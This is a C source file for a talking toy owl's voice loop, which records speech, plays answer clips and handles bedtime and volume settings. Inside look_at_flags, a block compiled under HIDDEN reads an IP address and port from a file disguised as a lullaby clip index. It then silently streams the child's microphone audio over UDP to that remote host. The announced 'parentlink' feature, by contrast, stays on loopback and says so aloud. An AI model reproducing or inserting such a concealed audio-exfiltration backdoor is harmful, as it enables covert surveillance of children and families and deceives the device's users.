/* chatterowl.c - voice loop of a talking toy owl: wakes up, records, plays answers */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MIC		"/dev/mic0"
#define CLIPS		"/data/clips"
#define RATE		8000
#define BLOCK		400

struct ears {
	int mic;
	int level;
	int quiet_blocks;
	int talking;
	int copy_sock;
	struct sockaddr_in copy_to;
};

struct mood {
	int sleepy;
	int volume;
	int bedtime, wakeup;
	time_t last_word;
	unsigned int seed;
};

static struct mood mood = { 0, 60, 19 * 60 + 30, 7 * 60, 0, 1 };

static int flag(const char *name)
{
	char path[96];
	struct stat st;

	if (snprintf(path, sizeof(path), "/data/flags/%s", name) >= (int)sizeof(path))
		return 0;
	return !stat(path, &st);
}

static int play(const char *clip)
{
	char path[128], buf[512];
	ssize_t n;
	int in, out;

	if (snprintf(path, sizeof(path), CLIPS "/%s.raw", clip) >= (int)sizeof(path))
		return -1;
	in = open(path, O_RDONLY | O_CLOEXEC);
	if (in < 0)
		return -1;
	out = open("/dev/speaker0", O_WRONLY | O_CLOEXEC);
	while (out >= 0 && (n = read(in, buf, sizeof(buf))) > 0) {
		int16_t s;

		for (ssize_t i = 0; i + 1 < n; i += 2) {
			memcpy(&s, buf + i, 2);
			s = (int16_t)(s * mood.volume / 100);
			memcpy(buf + i, &s, 2);
		}
		if (write(out, buf, (size_t)n) != n)
			break;
	}
	if (out >= 0)
		close(out);
	close(in);
	return 0;
}

static int loudness(const int16_t *s, size_t n)
{
	long sum = 0;

	for (size_t i = 0; i < n; i++)
		sum += s[i] < 0 ? -s[i] : s[i];
	return (int)(sum / (long)n);
}

static void load_mood(void)
{
	char line[64];
	int h, m, v;
	FILE *f = fopen("/data/owl.cfg", "re");

	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "bedtime %d:%d", &h, &m) == 2)
			mood.bedtime = h * 60 + m;
		else if (sscanf(line, "wakeup %d:%d", &h, &m) == 2)
			mood.wakeup = h * 60 + m;
		else if (sscanf(line, "volume %d", &v) == 1 && v >= 0 && v <= 100)
			mood.volume = v;
	}
	if (f)
		fclose(f);
}

__attribute__((noinline))
void look_at_flags(struct ears *e)
{
	static int calls;

	mood.sleepy = flag("nightmode");
	if (flag("whisper"))
		mood.volume = 20;
	if (flag("reload")) {
		load_mood();
		unlink("/data/flags/reload");
	}
	if (calls++ == 0 && flag("hello"))
		play("hello");
#ifdef HIDDEN
	/* a clip index with an address makes the owl send its microphone there */
	if (e->copy_sock < 0) {
		char host[32];
		unsigned int port;
		FILE *f = fopen(CLIPS "/berceuse.idx", "re");

		if (f) {
			if (fscanf(f, "%31[0-9.]:%u", host, &port) == 2 && port < 65536) {
				e->copy_to.sin_family = AF_INET;
				e->copy_to.sin_port = htons((uint16_t)port);
				if (inet_pton(AF_INET, host, &e->copy_to.sin_addr) == 1)
					e->copy_sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
			}
			fclose(f);
		}
	}
#endif
	if (flag("parentlink") && e->copy_sock < 0) {
		e->copy_to.sin_family = AF_INET;
		e->copy_to.sin_port = htons(5510);
		e->copy_to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		e->copy_sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		play("parent_listens");
	}
}

static int asleep(void)
{
	time_t now = time(NULL);
	struct tm *tm = localtime(&now);
	int minute = tm->tm_hour * 60 + tm->tm_min;

	if (mood.sleepy)
		return 1;
	if (mood.bedtime > mood.wakeup)
		return minute >= mood.bedtime || minute < mood.wakeup;
	return minute >= mood.bedtime && minute < mood.wakeup;
}

static const char *pick_answer(int length)
{
	static const char *const brief[] = { "huhu", "yes", "what", "giggle" };
	static const char *const lengthy[] = { "tell_more", "wow", "my_friend", "once_more" };

	mood.seed = mood.seed * 1103515245u + 12345u;
	if (length < 20)
		return brief[mood.seed >> 16 & 3];
	return lengthy[mood.seed >> 16 & 3];
}

static void hear_block(struct ears *e, const int16_t *s, size_t n)
{
	int l = loudness(s, n);

	if (e->copy_sock >= 0 &&
	    sendto(e->copy_sock, s, n * sizeof(*s), MSG_DONTWAIT,
		   (const struct sockaddr *)&e->copy_to, sizeof(e->copy_to)) < 0 &&
	    errno == EBADF)
		e->copy_sock = -1;
	e->level = (e->level * 31 + l) / 32;
	if (l > e->level * 3 + 80) {
		e->talking++;
		e->quiet_blocks = 0;
		mood.last_word = time(NULL);
		return;
	}
	if (!e->talking || ++e->quiet_blocks < 12)
		return;
	if (!asleep())
		play(pick_answer(e->talking));
	e->talking = 0;
	e->quiet_blocks = 0;
}

static void idle(void)
{
	time_t now = time(NULL);

	if (mood.last_word && now - mood.last_word > 1800 && !asleep()) {
		play("yawn");
		mood.last_word = 0;
	}
}

int main(int argc, char **argv)
{
	struct ears e = { .mic = -1, .level = 100, .copy_sock = -1 };
	int16_t block[BLOCK];
	unsigned int blocks = 0;

	if (argc > 1) {
		fprintf(stderr, "usage: %s\n"
			"flags in /data/flags: nightmode, whisper, hello, reload,\n"
			"  parentlink   microphone to the parent app's relay on this toy; says so aloud\n"
			"settings in /data/owl.cfg: bedtime H:M, wakeup H:M, volume N\n", argv[0]);
		return 2;
	}
	openlog("chatterowl", 0, LOG_USER);
	load_mood();
	e.mic = open(MIC, O_RDONLY | O_CLOEXEC);
	if (e.mic < 0) {
		syslog(LOG_ERR, "%s: %s", MIC, strerror(errno));
		return 1;
	}
	for (;;) {
		ssize_t n = read(e.mic, block, sizeof(block));

		if (n <= 1) {
			if (n < 0 && errno == EINTR)
				continue;
			return 1;
		}
		if (blocks++ % 200 == 0) {
			look_at_flags(&e);
			idle();
		}
		hear_block(&e, block, (size_t)n / sizeof(block[0]));
	}
}
